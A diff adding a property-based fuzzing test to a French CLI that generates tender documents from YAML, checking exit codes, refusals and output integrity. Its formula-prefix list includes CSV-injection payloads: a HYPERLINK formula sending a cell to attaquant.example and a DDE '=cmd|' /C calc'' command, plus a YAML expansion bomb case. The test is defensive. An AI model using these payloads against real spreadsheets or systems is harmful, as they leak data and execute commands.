@@ -7,13 +7,23 @@ processus (CliRunner) : code de sortie, message lu par l'utilisateur, fichiers p
 
 from __future__ import annotations
 
+import copy
+import datetime as dt
+import os
 import resource
 import shutil
+import tempfile
 import time
+import zipfile
+from collections import Counter
 from pathlib import Path
 
 import pytest
+import yaml
 from click.testing import CliRunner
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from lxml import etree
 
 from conftest import EXEMPLES, RACINE, ecrire, reponses
 from generateur.donnees import catalogue as module_catalogue
@@ -459,3 +469,164 @@ def test_clause_binaire_et_taux_en_lettres(tmp_path):
         code, sortie = dce("--catalogue", racine, *commande)
         assert code == 2 and "ccap-binaire.md" in sortie and "non encodé en UTF-8" in sortie, sortie
     assert not (tmp_path / "s").exists()
+
+
+# --- fouille : mutations des exemples valides, par familles, commande réelle dans le processus ------------------
+#
+# Chaque entrée part d'un exemple de exemples/ et lui applique une famille de mutations ; le résultat attendu est
+# connu d'avance : même code que l'exemple intact (le texte ou la valeur ne change pas de sens), refus (code 2),
+# ou génération. Toujours : jamais de code 3 ni de trace, rien d'écrit en cas de refus, documents lisibles sinon.
+# DCE_FOUILLE=20000 pytest tests/test_surete_entrees.py -k fouille : campagne longue (chiffres au README).
+
+ENTREES_FOUILLE = max(1000, int(os.environ.get("DCE_FOUILLE", "0")))
+VALIDES = {f.stem: yaml.safe_load(f.read_text(encoding="utf-8")) for f in sorted(EXEMPLES.glob("*.yaml"))}
+CONTROLES = ["\v", "\f", "\x01", "\x07", "\x1b", "\x7f", "\x85", "\u2028", "\t", "\r\n", "\x00"]
+PREFIXES_FORMULE = ["=1+1", '=HYPERLINK("http://attaquant.example/?"&A1,"Voir")', "+1+1", "-2+3", "@SUM(A1:A2)",
+                    "=cmd|' /C calc'!A0"]
+DATES_INEXISTANTES = ["2026-02-30", "2026-13-01", "0000-01-01", "2027-02-29", "2026-04-31", "2026-00-10"]
+MEME_CODE, GENERE, REFUS, LIBRE = "même code que l'exemple", "génère", "refus", "libre"
+FAMILLES = ["controle", "controle", "formule", "formule", "zeros", "zeros", "alias", "gros_lots", "variation",
+            "variation", "date_inexistante", "bombe", "valeurs"]
+
+
+def _textes(donnees: dict) -> list[tuple[dict, str]]:
+    """(conteneur, clé) de chaque texte libre : objet, lieu, intitulés et descriptions des lots, lignes de prix."""
+    lieux = [(donnees, c) for c in ("objet", "lieu_execution") if isinstance(donnees.get(c), str)]
+    for lot in donnees["lots"]:
+        lieux += [(lot, c) for c in ("intitule", "description") if isinstance(lot.get(c), str)]
+        lieux += [(l, c) for l in lot.get("lignes_prix") or [] for c in ("designation", "unite")]
+    return lieux
+
+
+def _nombres(donnees: dict) -> list[tuple[dict, str]]:
+    lieux = [(donnees, "duree_mois")]
+    for lot in donnees["lots"]:
+        lieux.append((lot, "montant_estime"))
+        lieux += [(l, "quantite") for l in lot.get("lignes_prix") or [] if isinstance(l.get("quantite"), int)]
+    return [(c, k) for c, k in lieux if isinstance(c.get(k), int) and not isinstance(c.get(k), bool) and c[k] > 0]
+
+
+@st.composite
+def cas_de_fouille(draw):
+    """(exemple, texte YAML, famille, résultat attendu)."""
+    nom = draw(st.sampled_from(sorted(VALIDES)))
+    donnees = copy.deepcopy(VALIDES[nom])
+    famille = draw(st.sampled_from(FAMILLES))
+    bruts: dict[str, str] = {}  # jeton → YAML brut, posé après l'écriture (dates, zéros, bombe)
+    attendu = MEME_CODE
+    if famille in ("controle", "formule"):
+        lieux = _textes(donnees)
+        for i in draw(st.lists(st.integers(0, len(lieux) - 1), min_size=1, max_size=4, unique=True)):
+            conteneur, cle = lieux[i]
+            texte = str(conteneur[cle])
+            if famille == "controle":
+                position = draw(st.integers(0, len(texte)))
+                texte = texte[:position] + draw(st.sampled_from(CONTROLES)) + texte[position:]
+            else:
+                texte = draw(st.sampled_from(PREFIXES_FORMULE)) + " " + texte
+            conteneur[cle] = texte
+    elif famille == "zeros":
+        lieux = _nombres(donnees)
+        for i in draw(st.lists(st.integers(0, len(lieux) - 1), min_size=1, max_size=3, unique=True)):
+            conteneur, cle = lieux[i]
+            jeton = f"ZEROS{i}"
+            bruts[jeton] = "0" * draw(st.integers(1, 3)) + str(conteneur[cle])
+            conteneur[cle] = jeton
+    elif famille == "alias":  # la même liste de lignes de prix pour plusieurs lots : ancre et alias YAML
+        lignes = donnees["lots"][0].get("lignes_prix") or [{"designation": "Prestation", "unite": "forfait"}]
+        for lot in donnees["lots"][: draw(st.integers(1, len(donnees["lots"])))]:
+            lot["lignes_prix"] = lignes
+        attendu = GENERE
+    elif famille == "gros_lots":
+        modele = donnees["lots"][0]
+        lignes = (modele.get("lignes_prix") or []) * draw(st.integers(1, 8))
+        donnees["lots"] = [{**copy.deepcopy(modele), "numero": n, "intitule": f"{modele['intitule']} ({n})",
+                            "lignes_prix": copy.deepcopy(lignes)} for n in range(1, draw(st.integers(2, 12)) + 1)]
+        donnees.pop("montant_total_estime", None)
+        attendu = GENERE
+    elif famille == "variation":  # réponses valides voisines : durée, montants, date de lancement
+        donnees["duree_mois"] = draw(st.integers(1, 48))
+        for lot in donnees["lots"]:
+            lot["montant_estime"] = draw(st.integers(1_000, 20_000_000))
+            lot.pop("duree_mois", None)
+        donnees.pop("montant_total_estime", None)
+        lancement = dt.date(2026, 12, 1) + dt.timedelta(days=draw(st.integers(-2000, 300)))
+        donnees["date_lancement"] = lancement
+        donnees["date_limite_offres"] = f"{lancement + dt.timedelta(days=draw(st.integers(1, 90)))} 12:00"
+        attendu = LIBRE
+    elif famille == "date_inexistante":
+        champ = draw(st.sampled_from(["date_lancement", "date_limite_offres"]))
+        bruts["DATE"] = draw(st.sampled_from(DATES_INEXISTANTES))
+        donnees[champ] = "DATE"
+        attendu = REFUS
+    elif famille == "bombe":
+        attendu = REFUS
+    else:  # valeurs quelconques à un chemin quelconque
+        cle = draw(st.sampled_from(sorted(donnees)))
+        donnees[cle] = draw(st.none() | st.booleans() | st.integers(-10**30, 10**30) | st.floats()
+                            | st.text(max_size=40) | st.lists(st.integers(), max_size=3))
+        attendu = LIBRE
+    texte = yaml.safe_dump(donnees, allow_unicode=True, sort_keys=False)
+    for jeton, brut in bruts.items():
+        texte = texte.replace(f"'{jeton}'", brut).replace(f": {jeton}\n", f": {brut}\n")
+    if famille == "bombe":
+        texte += "rires:\n" + "".join("  " + l + "\n" for l in bombe(draw(st.integers(7, 10))).splitlines())
+    return nom, texte, famille, attendu
+
+
+_codes_des_exemples: dict[str, int] = {}
+
+
+def _code_de_l_exemple(nom: str, dossier: Path) -> int:
+    if nom not in _codes_des_exemples:
+        _codes_des_exemples[nom] = CliRunner().invoke(
+            main, ["generer", str(EXEMPLES / f"{nom}.yaml"), "--sortie", str(dossier / f"base-{nom}")]).exit_code
+    return _codes_des_exemples[nom]
+
+
+def test_fouille_des_exemples_mutes(tmp_path):
+    bilan: Counter[str] = Counter()
+
+    @settings(max_examples=ENTREES_FOUILLE, deadline=None, database=None,
+              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+    @given(cas=cas_de_fouille())
+    def essai(cas):
+        nom, texte, famille, attendu = cas
+        with tempfile.TemporaryDirectory(dir=tmp_path) as dossier:
+            code = _essayer(Path(dossier), nom, texte, famille, attendu, tmp_path)
+        bilan[famille] += 1
+        bilan["documents" if code in (0, 1) else "refus"] += 1
+
+    essai()
+    print(f"\nfouille : {dict(bilan)}")
+    assert bilan["documents"] + bilan["refus"] >= ENTREES_FOUILLE
+    assert bilan["documents"] > bilan["refus"], bilan
+
+
+def _essayer(dossier: Path, nom: str, texte: str, famille: str, attendu: str, tmp_path: Path) -> int:
+    """`dce generer` sur un cas de fouille ; vérifie code, message, fichiers ; renvoie le code."""
+    fichier = dossier / "reponses.yaml"
+    fichier.write_text(texte, encoding="utf-8")
+    sortie = dossier / "sortie"
+    resultat = CliRunner().invoke(main, ["generer", str(fichier), "--sortie", str(sortie)])
+    code = resultat.exit_code
+    assert code in (0, 1, 2) and "Traceback" not in resultat.output, (famille, resultat.output)
+    assert resultat.exception is None or isinstance(resultat.exception, SystemExit), resultat.exception
+    if attendu == MEME_CODE:
+        assert code == _code_de_l_exemple(nom, tmp_path), (famille, resultat.output)
+    elif attendu == GENERE:
+        assert code in (0, 1), (famille, resultat.output)
+    elif attendu == REFUS:
+        assert code == 2 and ("date inexistante" in resultat.output or "alias" in resultat.output), resultat.output
+    if code == 2:
+        assert not sortie.exists() and "Erreur" in resultat.output
+    else:
+        pieces = sorted(sortie.glob("*.docx"))
+        assert len(pieces) >= 5
+        for piece in pieces:
+            with zipfile.ZipFile(piece) as z:
+                etree.fromstring(z.read("word/document.xml"))  # XML bien formé, sans récupération
+        if famille == "formule":
+            csv_annexe = next(sortie.glob("*-annexe-conformite.csv")).read_text(encoding="utf-8-sig")
+            assert not any(c[:1] in "=+-@" for l in csv_annexe.splitlines() for c in l.split(";") if c), csv_annexe
+    return code
